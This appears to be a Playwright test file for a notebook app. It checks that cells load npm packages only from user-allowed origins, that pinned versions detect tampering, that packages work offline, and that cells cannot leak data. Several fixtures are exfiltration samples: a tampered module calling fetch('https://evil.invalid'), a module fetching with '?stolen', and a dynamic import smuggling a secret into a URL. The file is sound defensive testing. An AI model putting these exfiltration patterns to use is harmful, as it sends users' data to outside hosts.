// Cells that import packages: from an origin that the user has allowed, once, and then without a network.

import { expect, type Browser } from "playwright/test";
import { Person } from "../support/app/Person.ts";
import { ModuleServer } from "../support/packages/ModuleServer.ts";
import { test as base } from "./withHost.ts";

const test = base.extend<{ readonly modules: ModuleServer }>({
  // oxlint-disable-next-line no-empty-pattern -- playwright reads the names of what a fixture needs from this pattern
  modules: async ({}, run) => {
    const modules = await ModuleServer.start();
    await run(modules);
    await modules.stop();
  },
});

/** Somebody whose packages of npm come from `modules`, which no real authority vouches for. */
async function arrive(browser: Browser, url: string, modules: ModuleServer): Promise<Person> {
  const context = await browser.newContext({ viewport: { width: 1200, height: 1000 }, ignoreHTTPSErrors: true });
  await context.addInitScript((origin) => {
    // Frames of other origins have no storage.
    if (window === top) localStorage.setItem("meshbook.packages.npm", JSON.stringify(origin));
  }, modules.origin);
  const person = new Person(context, await context.newPage());
  await person.visit(url);
  return person;
}

const replace = async (person: Person, index: number, source: string): Promise<void> => {
  await person.enter(index);
  await person.page.keyboard.press("Control+a");
  await person.page.keyboard.insertText(source);
};

test("a cell imports a package that its user has allowed, and again without a network", async ({
  browser,
  host,
  modules,
}) => {
  modules.files.set("/colours", "/* colours@2.1.0 */ export * from '/colours@2.1.0/index.mjs'");
  modules.files.set("/colours@2.1.0", "/* colours@2.1.0 */ export * from '/colours@2.1.0/index.mjs'");
  modules.files.set(
    "/colours@2.1.0/index.mjs",
    "import { even } from './ring.mjs'; export const red = '#f00'; export const odd = (n) => n > 0 && even(n - 1)",
  );
  modules.files.set(
    "/colours@2.1.0/ring.mjs",
    "import { odd } from './index.mjs'; export const even = (n) => n === 0 || odd(n - 1)",
  );
  const { host: name } = new URL(modules.origin);

  const ana = await arrive(browser, host.ready.url, modules);
  const notebook = await ana.createNotebook();
  await ana.write(0, "import { red, odd } from 'colours'\n`${red} ${odd(7)}`");
  await ana.run(0);
  const prompt = ana.cell(0).getByRole("group", { name: `Load code from ${name}?` });
  await expect(prompt).toBeVisible();
  expect(modules.asked).toEqual([]);
  await prompt.getByRole("button", { name: "Not now" }).click();
  await expect(ana.outputs(0)).toContainText(`you have not allowed this computer to load code from ${name}`);
  expect(modules.asked).toEqual([]);

  await ana.run(0);
  await prompt.getByRole("button", { name: `Allow ${name}` }).click();
  await expect(ana.outputs(0)).toContainText("#f00 true");
  // What was imported is a variable of the notebook, and a second cell is not asked again.
  await ana.leaveText();
  await ana.page.keyboard.press("b");
  await ana.write(1, "const again = await import('colours'); [red, again.red].join()");
  await ana.run(1);
  await expect(ana.outputs(1)).toContainText("#f00,#f00");

  // Somebody else gets what the notebook has pinned, and nothing else.
  modules.files.set("/colours@2.1.0/ring.mjs", "export const even = () => fetch('https://evil.invalid')");
  const ben = await arrive(browser, host.ready.url, modules);
  await ben.openListed(notebook);
  await ben.run(0);
  await ben
    .cell(0)
    .getByRole("button", { name: `Allow ${name}` })
    .click();
  await expect(ben.outputs(0)).toContainText("gives something else for it than when this notebook first used it");

  // What was allowed can be taken back.
  await ana.page.getByRole("button", { name: "More" }).first().click();
  await ana.page.getByRole("menuitem", { name: "Where packages come from" }).click();
  const dialog = ana.page.getByRole("dialog", { name: "Where packages come from" });
  await dialog.getByRole("button", { name: `Ask again before loading from ${name}` }).click();
  await expect(dialog).toContainText("No server is allowed.");
  await ana.page.keyboard.press("Escape");

  // Without a network, after a reload.
  const asked = modules.asked.length;
  await modules.stop();
  await ana.reload();
  await ana.run(0);
  await expect(ana.outputs(0)).toContainText("#f00 true");
  await replace(ana, 1, "import unknown from 'never-seen'");
  await ana.run(1);
  await ana
    .cell(1)
    .getByRole("button", { name: `Allow ${name}` })
    .click();
  await expect(ana.outputs(1)).toContainText("“never-seen” cannot be imported: it is not on this computer yet");
  expect(modules.asked).toHaveLength(asked);
  expect(ana.errors).toEqual([]);
});

test("a cell cannot tell a server anything, nor load what is too large", async ({ browser, host, modules }) => {
  const { origin } = modules;
  modules.files.set("/huge@1.0.0", `//${"x".repeat(9 * 1024 * 1024)}`);
  modules.files.set(
    "/small@1.0.0",
    "export const value = 5; export const out = () => fetch(import.meta.url + '?stolen').then(() => 'sent', () => 'closed')",
  );
  const ana = await arrive(browser, host.ready.url, modules);
  await ana.createNotebook();
  await ana.write(0, "import { value } from 'small@1.0.0'\nvalue");
  await ana.run(0);
  await ana
    .cell(0)
    .getByRole("button", { name: /^Allow/ })
    .click();
  await expect(ana.outputs(0)).toContainText("5");
  const asked = [...modules.asked];

  await replace(ana, 0, `const secret = 'stolen'; await import('${origin}/' + secret)`);
  await ana.run(0);
  await expect(ana.outputs(0)).toContainText("must stand in the cell, as text");
  await replace(ana, 0, "import { out } from 'small@1.0.0'\nawait out()");
  await ana.run(0);
  await expect(ana.outputs(0)).toContainText("closed");
  expect(modules.asked).toEqual(asked);

  await replace(ana, 0, "import huge from 'huge@1.0.0'");
  await ana.run(0);
  await expect(ana.outputs(0)).toContainText("is larger than 8.0 MiB");
  await replace(ana, 0, "import { nothing } from 'small@1.0.0'");
  await ana.run(0);
  await expect(ana.outputs(0)).toContainText("exports no “nothing”: it exports value, out");
});
